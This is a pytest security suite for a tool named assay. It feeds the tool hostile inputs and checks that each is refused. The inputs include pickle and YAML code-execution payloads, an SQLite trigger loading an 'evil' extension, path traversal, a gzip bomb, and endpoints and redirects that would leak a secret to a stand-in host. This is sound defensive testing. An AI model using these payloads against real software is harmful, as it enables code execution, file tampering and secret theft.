"""Forty ways in which a stranger's file, URL or pull request could run code, read, write or leak.

A way is what the stranger sends (files) and what the user types. Afterwards nothing has run, no
file outside the working folder is new or changed, nobody was connected to, and no secret is in
what was printed or written. tests/integrations/test_action.py has the pull requests.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import socket
import sqlite3
from collections.abc import Callable, Mapping
from contextlib import closing
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pytest

import assay.store as run_store
from assay import evaluate
from assay.cluster import rank_shards
from assay.errors import AssayError
from assay.io.collections import write_collection
from assay.runs.record import RunRecord
from tests.bench.samples import small
from tests.web.samples import Client

SECRET = "hunter2-0123456789"
RAN = "open('ran', 'w').close()"


class Harm:
    """Runs when it is unpickled."""

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Path]]:
        return (Path.touch, (Path("ran"),))


def npy(array: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def npz(**arrays: Any) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, **arrays)
    return buffer.getvalue()


def bench(spec: str, more: str = "", *, corpus: str = "made") -> str:
    return f'corpus = "{corpus}"\n[[model]]\nname = "m"\nspec = "{spec}"\n{more}\n'


def result(*arguments: str, **inputs: str) -> str:
    """A result as a command writes it; anybody can write one."""
    marks = {path: {"bytes": 1, "sha256": "0" * 64} for path in inputs.values()}
    made_by = {"version": "0.2.0", "arguments": list(arguments), "inputs": marks}
    about = {"schema_version": 1, "schema": "assay/eval/1", "command": arguments[0]}
    return json.dumps({**about, "made_by": made_by})


def manifest(*paths: str) -> str:
    return json.dumps({"shards": [{"path": path} for path in paths]})


def header(shape: str) -> bytes:
    """An .npy file that claims to be large."""
    text = f"{{'descr': '<f8', 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode()


HARM = np.array([Harm()], dtype=object)
PY = "py:mine:letters"
BENCH = ("bench", "bench.toml", "--no-cache", "--resamples", "100")
EXPERIMENT = "dataset: {{path: scenes}}\ndescriptors: [{{name: x, type: '{}'}}]\n"
MODULES = json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil.Evil"}])
RERANK = '[[rerank]]\nof = "m"\nspec = "{}"'


class Way(NamedTuple):
    """Files by name, the command, and the exit codes that are right."""

    files: Mapping[str, str | bytes]
    words: tuple[str, ...]
    codes: tuple[int, ...] = (2,)
    said: str = ""


def toml(text: str, *words: str) -> Way:
    return Way({"bench.toml": text}, (*BENCH, *words))


FILES: dict[str, Way] = {
    # Code.
    "a pickled .npy": Way({"v.npy": npy(HARM)}, ("rank", "v.npy", "d.npy", "-o", "o.run"), (3,)),
    "a pickle named .npy": Way(
        {"v.npy": pickle.dumps(Harm())}, ("codes", "--embeddings", "v.npy"), (3,)
    ),
    "a pickled array of .npz": Way(
        {"q.npz": npz(query_labels=HARM, doc_labels=HARM)}, ("eval", "a.run", "-r", "q.npz"), (3,)
    ),
    "a pickle as checkpoint": Way(
        {"t.pt": pickle.dumps(Harm())},
        ("bench", "--corpus", "made", "--model", "t.pt", "--no-cache"),
        (3, 4),  # 4: without torch it is not even read
    ),
    "a tag of YAML": Way(
        {"e.yaml": "dataset: !!python/object/apply:os.system [touch ran]\n"},
        ("descriptors", "run", "e.yaml"),
        (3,),
    ),
    "a function as model": toml(bench(PY)),
    "a function of the standard library": toml(bench("py:os:system"), "--allow-code"),
    "a function as reranker": toml(bench("bm25", RERANK.format(PY))),
    "a function as descriptor": Way(
        {"e.yaml": EXPERIMENT.format("mine:letters")}, ("descriptors", "run", "e.yaml")
    ),
    "a script as descriptor": Way(
        {"e.yaml": EXPERIMENT.format("torch:net.pt"), "net.pt": b""},
        ("descriptors", "match", "e.yaml"),
    ),
    "a folder as model": Way(
        {
            "bench.toml": bench("st:nice"),
            "sentence-transformers/nice/modules.json": MODULES,
            "sentence-transformers/nice/evil.py": RAN,
        },
        BENCH,
    ),
    "trusted remote code": toml(bench("st:all-MiniLM-L6-v2", "trust_remote_code = true")),
    "a revision of anybody": toml(bench("st:somebody/model", 'revision = "refs/pr/1"')),
    "a result made by a function": Way(
        {"r.json": result(*BENCH[:1], "made", "--model", PY)}, ("verify", "r.json")
    ),
    "a result with a function as descriptor": Way(
        {
            "r.json": result("descriptors", "run", "e.yaml", experiment="e.yaml"),
            "e.yaml": EXPERIMENT.format("mine:letters"),
        },
        ("verify", "r.json"),
        (1, 2),
    ),
    # Reading.
    "a result of a file elsewhere": Way(
        {"r.json": result("eval", "OUT/secret.txt", "-r", "q.txt", run="OUT/secret.txt")},
        ("verify", "r.json"),
        (2, 5),
    ),
    "a result of a file above": Way(
        {"r.json": result("eval", "../outside/secret.txt", "-r", "q.txt", qrels="q.txt")},
        ("verify", "r.json"),
    ),
    "a result of shards elsewhere": Way(
        {
            "r.json": result(
                "rank", "d.npy", "m.json", "-o", "o.run", docs="m.json", queries="d.npy"
            ),
            "m.json": manifest("OUT/secret.npy"),
        },
        ("verify", "r.json"),
        said="not one of its inputs",
    ),
    "a manifest that leads to a host": Way(
        {"m.json": manifest("http://192.0.2.1/a.npy")}, ("rank", "d.npy", "m.json", "-o", "o.run")
    ),
    "a manifest that caches a host's file": Way(
        {"m.json": manifest("simplecache::http://192.0.2.1/a.npy")},
        ("rank", "d.npy", "m.json", "-o", "o.run"),
    ),
    "a config that reads a device": toml(
        'queries = "/dev/zero"\nqrels = "q.txt"\n' + bench("bm25", corpus="/dev/zero")
    ),
    "a bomb": Way(
        {"a.run.gz": gzip.compress(b"0" * (1 << 25))}, ("eval", "a.run.gz", "-r", "q.txt"), (3,)
    ),
    "a header of 10^15 numbers": Way(
        {"v.npy": header("(1000000000, 1000000)")}, ("rank", "v.npy", "d.npy", "-o", "o.run"), (3,)
    ),
    "nesting without end": Way({"q.json": "[" * 100_000}, ("eval", "a.run", "-r", "q.json"), (3,)),
    "one key twice": Way(
        {"q.json": '{"q1": {"a": 1}, "q1": {"b": 1}}'}, ("eval", "a.run", "-r", "q.json"), (3,)
    ),
    # Writing.
    "names that lead out of the folder": Way(
        {"bench.toml": bench("bm25").replace('"m"', '"../../outside/new"')},
        (*BENCH, "--runs", "runs"),
        (0,),
    ),
    "names in an archive": Way(
        {"v.npz": npz(**{"../outside/new": np.eye(2), "docs": np.eye(2)})},
        ("rank", "v.npz:docs", "v.npz:docs", "-k", "1", "-o", "o.run"),
        (0,),
    ),
    "an output in a config": Way(
        {"bench.toml": 'output = "../outside/new"\n' + bench("bm25")}, BENCH, (3,)
    ),
    "an output in a result": Way(
        {
            "r.json": result(
                "eval", "a.run", "-r", "q.txt", "-o", "OUT/secret.txt", run="a.run", qrels="q.txt"
            )
        },
        ("verify", "r.json"),
        (1, 2),
    ),
    # Leaks.
    "an endpoint": toml(bench("openai:m", 'base_url = "http://192.0.2.1/v1"')),
    "a key": toml(
        bench("openai:m", 'base_url = "http://192.0.2.1/v1"\nkey_env = "MY_KEY"'),
        "--allow-endpoint",
        "192.0.2.1",
    ),
    "a reranker's endpoint": toml(
        bench("bm25", RERANK.format("rerank:https://192.0.2.1?key_env=MY_KEY"))
    ),
    "a server of vectors": toml('index = ["qdrant:http://192.0.2.1:6333"]\n' + bench("wordllama")),
    "two hosts in one address": toml(
        'index = ["pgvector:postgresql://good/x?host=192.0.2.1"]\n' + bench("wordllama"),
        "--allow-endpoint",
        "good",
    ),
    "a collection to fetch": toml(bench("bm25", corpus="ir:beir/scifact/test")),
    "a model to fetch": toml(bench("model2vec:somebody/model"), "--allow-code"),
}


@pytest.fixture
def home(tmp_path, monkeypatch):
    """The user's folder, with a secret beside it; whoever connects to another machine fails."""
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    (outside / "secret.txt").write_text(f"q1 Q0 {SECRET} 1 1 t\n")
    np.save(outside / "secret.npy", np.eye(3, dtype=np.float32))
    (work / "mine.py").write_text(f"{RAN}\ndef letters(texts): return [[1.0]] * len(texts)\n")
    (work / "a.run").write_text("q1 Q0 a 1 1 t\n")
    (work / "q.txt").write_text("q1 0 a 1\n")
    write_collection(small(), work / "made")
    np.save(work / "d.npy", np.eye(3, dtype=np.float32))
    monkeypatch.chdir(work)
    monkeypatch.syspath_prepend(str(work))
    monkeypatch.setenv("MY_KEY", SECRET)
    monkeypatch.setenv("ASSAY_MAX_BYTES", str(1 << 20))
    monkeypatch.setenv("ASSAY_CACHE", str(work / "cache"))

    def connect(self, address):
        raise AssertionError(f"connects to {address}")

    monkeypatch.setattr(socket.socket, "connect", connect)
    yield work
    assert not (work / "ran").exists(), "code was run"
    assert {path.name for path in outside.iterdir()} == {"secret.npy", "secret.txt"}
    assert (outside / "secret.txt").read_text() == f"q1 Q0 {SECRET} 1 1 t\n"
    written = [path for path in work.rglob("*") if path.is_file() and not path.is_symlink()]
    assert not [path for path in written if SECRET.encode() in path.read_bytes()]


@pytest.mark.parametrize("way", FILES.values(), ids=FILES)
def test_a_file(home, assay, way):
    for name, content in way.files.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        text = content if isinstance(content, bytes) else content.encode()
        (home / name).write_bytes(text.replace(b"OUT", str(home.parent / "outside").encode()))
    answer = assay(*way.words)
    assert answer.code in way.codes, answer.err
    assert way.said in answer.err
    assert SECRET not in answer.out + answer.err


def test_a_link_in_a_folder_of_texts(home, assay):
    (home / "texts").mkdir()
    for name, text in (("a", "some words here"), ("b", "other words there")):
        (home / "texts" / f"{name}.txt").write_text(text)
    (home / "texts" / "c.txt").symlink_to(home.parent / "outside" / "secret.txt")
    words = ("--model", "bm25", "--no-cache", "--html", "o.html", "-o", "o.json")
    answer = assay("bench", "--corpus", "texts", *words)
    assert SECRET not in answer.out + answer.err


STORED = {
    "a stored function": ("bench", "--corpus", "made", "--model", PY, "--allow-code"),
    "a stored output": ("eval", "a.run", "-r", "q.txt", "-o", "../outside/new"),
    "a stored host": ("eval", "s3://192.0.2.1/a.run", "-r", "q.txt"),
    "a stored store": ("eval", "a.run", "-r", "q.txt", "--store", "postgresql://192.0.2.1/x"),
    "a stored command that deletes": ("runs", "delete", "1", "--yes"),
}


@pytest.mark.parametrize("command", STORED.values(), ids=STORED)
def test_a_stored_command(home, assay, command):
    scores = evaluate({"q": {"d": 1.0}}, {"q": {"d": 1}})
    with run_store.open("s.db") as store:
        store.save(RunRecord("run", scores, command=command, task=command[0]))
    assert assay("runs", "rerun", 1, "--store", "s.db").code == 2
    assert assay("runs", "show", 1, "--store", "s.db").code == 0


def test_a_store_with_triggers_and_views(home, assay):
    """SQLite runs what stands in the schema of a file."""
    with run_store.open("s.db") as store:
        store.save(RunRecord("run", evaluate({"q": {"d": 1.0}}, {"q": {"d": 1}})))
    with closing(sqlite3.connect("s.db")) as database, database:
        (table,) = database.execute(
            "select name from sqlite_master where type = 'table' and name like 'run%' limit 1"
        ).fetchone()
        database.execute(
            f"create trigger t after insert on {table} begin "
            "select writefile('ran', 'x'); select load_extension('evil'); end"
        )
    answer = assay("eval", "a.run", "-r", "q.txt", "--save", "--store", "s.db")
    assert answer.code in (0, 5), answer.err


def test_a_remote_manifest_that_names_a_file_here(home):
    fsspec = pytest.importorskip("fsspec")
    secret = str(home.parent / "outside" / "secret.txt")
    for path in (secret, f"file://{secret}", f"local://{secret}", "../../outside/secret.txt"):
        fsspec.filesystem("memory").pipe("/strange/m.json", manifest(path).encode())
        with pytest.raises(AssayError) as caught:
            rank_shards(np.eye(1, dtype=np.float32), "memory://strange/m.json", 1)
        assert SECRET not in str(caught.value)


REQUESTS: dict[str, tuple[dict[str, Any], int]] = {
    "another host's name": ({"host": "evil.example"}, 421),
    "a form of another site": ({"method": "POST", "headers": {"origin": "http://evil"}}, 405),
    "a token that sends away": ({"address": "//evil.example/?token=" + "t" * 16}, 303),
}


@pytest.mark.parametrize(("request_of", "status"), REQUESTS.values(), ids=REQUESTS)
def test_a_request(home, request_of, status):
    with run_store.open("s.db") as store:
        store.save(RunRecord("run", evaluate({"q": {"d": 1.0}}, {"q": {"d": 1}})))
    client = Client("s.db", token="t" * 16 if status == 303 else None)
    options = dict(request_of)
    answer = client(options.pop("address", "/"), **options)
    assert answer.status == status
    assert "evil" not in str(answer.headers.get("location", "")).partition("/evil")[0]
    assert not str(answer.headers.get("location", "")).startswith("//")
